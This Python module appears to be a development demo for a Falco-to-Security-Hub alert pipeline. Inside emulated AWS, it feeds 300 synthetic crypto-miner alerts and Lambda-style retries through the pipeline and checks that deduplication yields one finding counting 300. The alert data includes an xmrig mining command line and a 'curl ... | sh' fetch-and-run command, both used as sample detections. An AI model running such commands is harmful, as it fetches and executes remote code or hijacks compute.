"""The alert-storm part of ``make demo`` (docs/storms.md): a crypto miner fires one rule 300
times in twelve minutes; Security Hub shows one finding with the exact count.

Called by handlers/demo.py inside its emulated AWS (moto), after the other demo steps:

1. creates the cluster's occurrence table and points the handler at it (``OCCURRENCES_TABLE``);
2. delivers 300 alerts of one behaviour (the same command line in two replicas of one
   Deployment) in six CloudWatch Logs deliveries, plus one alert of another command line in the
   same pod; then delivers two of the events again, as Lambda retries do;
3. prints the region's behaviour findings: one for the storm carrying 300, one for the other
   command line carrying 1.

Not shipped in any Lambda (moto is a development dependency).
"""

from __future__ import annotations

import base64
import gzip
import json
import os
from typing import Any, TextIO

from handlers import occurrences
from handlers.names import BEHAVIOR_ID_PREFIX, occurrences_table_name

ACCOUNT_ID = "123456789012"
STORM = 300
DELIVERIES = 6
MINER = "/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1"  # noqa: S108 - an alert's text


def _alert(n: int, pod: str, cmdline: str) -> dict[str, Any]:
    minute, second = divmod(n * 720 // STORM, 60)  # twelve minutes from 03:10
    fields = {
        "container.id": "4f1c2a9b7e3d",
        "container.image.repository": "docker.io/library/checkout",
        "container.image.tag": "1.14.2",
        "container.name": "checkout",
        "k8s.ns.name": "shop",
        "k8s.pod.name": pod,
        "proc.cmdline": cmdline,
        "proc.exepath": cmdline.split()[0],
        "proc.name": "xmrig" if "xmrig" in cmdline else "sh",
        "proc.pid": 31_000 + n,
    }
    return {
        "hostname": "ip-10-20-1-37.ec2.internal",
        "output": f"Outbound connection to a mining pool (command={cmdline} pod={pod})",
        "output_fields": fields,
        "priority": "Critical",
        "rule": "Detect outbound connections to common miner pool ports",
        "source": "syscall",
        "tags": ["maturity_sandbox", "network", "mitre_impact", "T1496"],
        "time": f"2026-03-14T03:{10 + minute:02d}:{second:02d}.{n:09d}Z",
    }


def _event(cluster: str, alerts: list[dict[str, Any]], first_id: int) -> dict[str, Any]:
    payload = {
        "messageType": "DATA_MESSAGE",
        "owner": ACCOUNT_ID,
        "logGroup": f"/falco/{cluster}/alerts",
        "logStream": "ip-10-20-1-37.ec2.internal/falco",
        "subscriptionFilters": [f"{cluster}-falco-findings-subscription"],
        "logEvents": [
            {
                "id": f"{first_id + n:056d}",
                "timestamp": 1_773_457_800_000 + n,
                "message": json.dumps({"log": json.dumps(alert), "cluster_name": cluster}),
            }
            for n, alert in enumerate(alerts)
        ],
    }
    data = gzip.compress(json.dumps(payload).encode())
    return {"awslogs": {"data": base64.b64encode(data).decode()}}


def run(region: str, cluster: str, context: Any, out: TextIO) -> int:
    """The storm demo inside an active moto; 0 when the storm is one finding counting 300."""
    import contextlib
    import io

    import boto3

    from handlers import ingest

    table = occurrences_table_name(cluster)
    boto3.client("dynamodb", region_name=region).create_table(
        TableName=table,
        BillingMode="PAY_PER_REQUEST",
        KeySchema=[{"AttributeName": occurrences.ID, "KeyType": "HASH"}],
        AttributeDefinitions=[{"AttributeName": occurrences.ID, "AttributeType": "S"}],
    )
    os.environ.update(AWS_REGION=region, CLUSTER_NAME=cluster, OCCURRENCES_TABLE=table)
    pods = ("checkout-7d9f8b6c5d-x7k2p", "checkout-7d9f8b6c5d-q9z4m")  # two replicas
    storm = [_alert(n, pods[n % 2], MINER) for n in range(STORM)]
    per = STORM // DELIVERIES
    events = [_event(cluster, storm[i * per : (i + 1) * per], 90_000 + i * per) for i in range(6)]
    other = _event(cluster, [_alert(7, pods[0], "sh -c curl -s http://203.0.113.9/x | sh")], 99_000)
    schedule = [*events[:3], events[1], *events[3:], other, events[4]]  # two re-deliveries
    with contextlib.redirect_stdout(io.StringIO()):
        for event in schedule:
            ingest.handler(event, context)
    os.environ.pop("OCCURRENCES_TABLE")
    client = boto3.client("securityhub", region_name=region)
    found = [
        f
        for page in client.get_paginator("get_findings").paginate()
        for f in page["Findings"]
        if f["Id"].startswith(BEHAVIOR_ID_PREFIX)
    ]
    out.write(
        f"\nAlert storm in {cluster}: {STORM} alerts of one behaviour in {DELIVERIES} deliveries "
        f"(two delivered twice) and 1 alert of another command line -> {len(found)} findings:\n"
    )
    for finding in sorted(found, key=lambda f: -int(f["ProductFields"]["falco/occurrences"])):
        fields = finding["ProductFields"]
        process = finding["Resources"][0].get("Details", {}).get("Other", {}).get("Process", "-")
        out.write(
            f"  {fields['falco/occurrences']:>4} x {fields['falco/rule']}\n"
            f"         {finding['FirstObservedAt'][:19]} .. {finding['LastObservedAt'][:19]}"
            f"  process: {process[:60]}\n"
        )
    counts = sorted(int(f["ProductFields"]["falco/occurrences"]) for f in found)
    return 0 if counts == [1, STORM] else 1
